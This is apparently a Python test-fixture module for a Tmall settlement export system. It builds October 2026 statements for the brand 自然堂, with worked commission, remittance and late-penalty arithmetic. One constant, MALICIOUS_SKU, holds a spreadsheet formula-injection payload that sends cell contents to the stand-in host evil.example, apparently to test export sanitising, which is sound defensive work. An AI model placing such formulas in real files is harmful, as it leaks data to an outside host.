"""Statement documents for the export tests: a hand-worked October 2026 of 自然堂 on Tmall."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime

from daiyun.adapters.exports import StatementDocument
from daiyun.domain.money import Money
from daiyun.domain.settlement import ExcusedDelay, Statement
from tests.unit.settlement.settlement_builders import draft, refund, sale

# A formula a spreadsheet would run if the SKU were stored as a formula (formula injection).
MALICIOUS_SKU = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击 click")'


def plain_month() -> Statement:
    """The plain month of test_statement_examples plus a quality concession (R-S1–R-S6, R-S9).

    sales 256.00 + 209.00 + 275.70 = 740.70; settlement 256.00 + 199.00 + 269.70 = 724.70;
    commission 724.70 × 5% = 36.235 → 36.24; concession 15.00 (quality: the brand's deduction);
    spread 740.70 − 724.70 = 16.00; fees 10.24 + 8.36 + 13.79 = 32.39; shipping 8.00;
    remittance 724.70 + 8.00 − 36.24 − 15.00 = 681.46.
    """
    return draft(
        "2026-10",
        [
            sale("T1001", units=2, actual="256.00", guide="128.00", completed="2026-10-05 14:00"),
            sale("T1002", sku="CH-SERUM", actual="209.00", guide="199.00"),
            sale(
                "T1003", sku="CH-LIP", category="彩妆", units=3, actual="275.70",
                guide="89.90", shipping="8.00", completed="2026-10-31 20:00",
            ),
        ],
        [refund("T1002", amount="15.00", completed="2026-10-20 10:00", reason="quality")],
    )  # fmt: skip


def many_lines(count: int, *, sku: str = "CH-CREAM-50") -> Statement:
    """`count` sales of 1 × 128.00 at guide, one order each: T000001, T000002, …"""
    return draft("2026-10", [sale(f"T{n:06d}", sku=sku) for n in range(1, count + 1)])


def document(statement: Statement | None = None, *, version: int = 2) -> StatementDocument:
    """The statement as issued: version 2 after a dispute, due dates set, no penalty yet."""
    return StatementDocument(
        statement=statement if statement is not None else plain_month(),
        contract_code="CHANDO-2026",
        brand_code="chando",
        brand_name="自然堂",
        version=version,
        status="issued",
        issue_by=date(2026, 11, 10),
        confirm_by=date(2026, 11, 17),
        payment_due=None,
        penalty_accrued=Money(0),
    )


def late_document() -> StatementDocument:
    """Confirmed and unpaid past its due day, part of the delay the brand's (R-S7; the worked
    example of tests/integration/test_excused_delays.py): due 15 November, as of 25 November
    16–25 November are 10 days late; the brand caused 18–20 November, so 7 are counted:
    7 × 138.66 fen (0.3% a day of 462.20) = 970.62 fen → 9.71."""
    excused = ExcusedDelay(
        first_day=date(2026, 11, 18),
        last_day=date(2026, 11, 20),
        reason="品牌方更换收款账户 the brand changed its receiving account",
        recorded_by="finance",
        recorded_at=datetime(2026, 11, 21, 2, 0, tzinfo=UTC),
    )
    return replace(
        document(),
        status="confirmed",
        payment_due=date(2026, 11, 15),
        penalty_accrued=Money(971),
        days_late=7,
        days_excused=3,
        excused_delays=(excused,),
    )
